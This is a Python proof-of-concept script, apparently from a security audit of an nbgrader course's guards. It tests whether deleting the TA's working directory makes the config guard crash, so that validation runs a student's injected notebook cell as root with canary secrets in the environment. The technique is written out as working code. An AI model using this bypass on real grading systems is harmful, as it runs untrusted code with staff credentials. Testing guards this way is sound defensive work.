"""a16: the venv-wide guards run inside nbgrader's config loading (.venv/etc/jupyter/nbgrader_config.py), and
nbgrader logs an exception in a config file and goes on. The guard's first line is os.getcwd(): in a folder that
was removed under the TA's shell (a student who may write its parent removes the TA's empty folder), it raises
FileNotFoundError, not SystemExit. Is every course guard then skipped (Validate runs another user's notebook)?
The TA (root, canaries) sits in a removed folder and validates a notebook owned by the student (uid 65534), which
the guard refuses from any existing folder (control: the same from /root)."""
import os, subprocess, json, shutil, nbformat
BASE = "/tmp/attack45-root-a16"
shutil.rmtree(BASE, ignore_errors=True); os.makedirs(BASE); os.chmod(BASE, 0o755)
MARKS = f"{BASE}/marks"; os.mkdir(MARKS); os.chmod(MARKS, 0o777)
ENV = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
nb = nbformat.read("CLONE/release/ps1_memory/ps1_memory.ipynb", 4)
nb.cells[1].source = ("import os, json\nopen('%s/ran-%%d' %% os.getpid(), 'w').write(json.dumps({'uid': os.getuid(), "
                      "'canary': os.environ.get('AWS_SECRET_ACCESS_KEY') == 'AKIASECRETCANARY123'}))\n" % MARKS) + nb.cells[1].source
sdir = f"{BASE}/student"; os.mkdir(sdir); os.chown(sdir, 65534, 65534)
path = f"{sdir}/ps1_memory.ipynb"; nbformat.write(nb, path); os.chown(path, 65534, 65534)
gone = f"{BASE}/gone"
for case in ("from /root (control)", "from a removed folder"):
    for f in os.listdir(MARKS): os.unlink(os.path.join(MARKS, f))
    if case.startswith("from a removed"):
        os.mkdir(gone)
        pre = lambda: (os.chdir(gone), os.rmdir(gone))
    else:
        pre = lambda: os.chdir("/root")
    r = subprocess.run(["CLONE/.venv/bin/nbgrader", "validate", path], env=ENV, capture_output=True, text=True,
                       timeout=300, preexec_fn=pre)
    ran = [json.load(open(os.path.join(MARKS, f))) for f in os.listdir(MARKS)]
    print(f"{case}: rc={r.returncode} student's notebook ran: {ran}")
    print("   tail:", (r.stdout + r.stderr).strip()[-400:].replace("\n", " | "))
shutil.rmtree(BASE)
